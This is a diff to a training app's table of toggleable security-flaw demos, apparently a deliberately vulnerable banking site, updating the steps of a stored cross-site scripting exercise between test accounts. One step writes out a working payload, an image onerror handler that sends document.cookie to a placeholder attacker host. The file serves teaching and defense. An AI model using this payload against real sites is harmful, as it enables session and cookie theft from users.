@@ -152,7 +152,7 @@ export const DEMOS: Record<FlawName, Demo> = {
   "stored-xss": {
     steps: [
       "Attacker: sign in as mallory@vaultline.test and send Alice $1.00 with a memo of markup, e.g. <b>refund</b> or the refresh payload from docs/trainer-guide.md.",
-      "Victim: sign in as alice@vaultline.test and open the checking account's history.",
+      "Victim: sign in as alice@vaultline.test: the dashboard's recent activity already renders the memo (and so does the account's history).",
       "Switch no-csp and readable-cookie on too, and send a memo whose markup sends document.cookie to the attacker (an <img>'s handler runs wherever the markup lands; a <script> only in a page's first HTML): <img src=x onerror=\"new Image().src='{attacker}/steal?c='+encodeURIComponent(document.cookie)\">. Watch the inbox.",
     ],
     expected: "Flaw on: the memo renders as markup (under the CSP, a refresh still carries the page to the attacker; without it and HttpOnly, the cookie arrives in the inbox). Defense: memos are text; the markup shows as typed.",
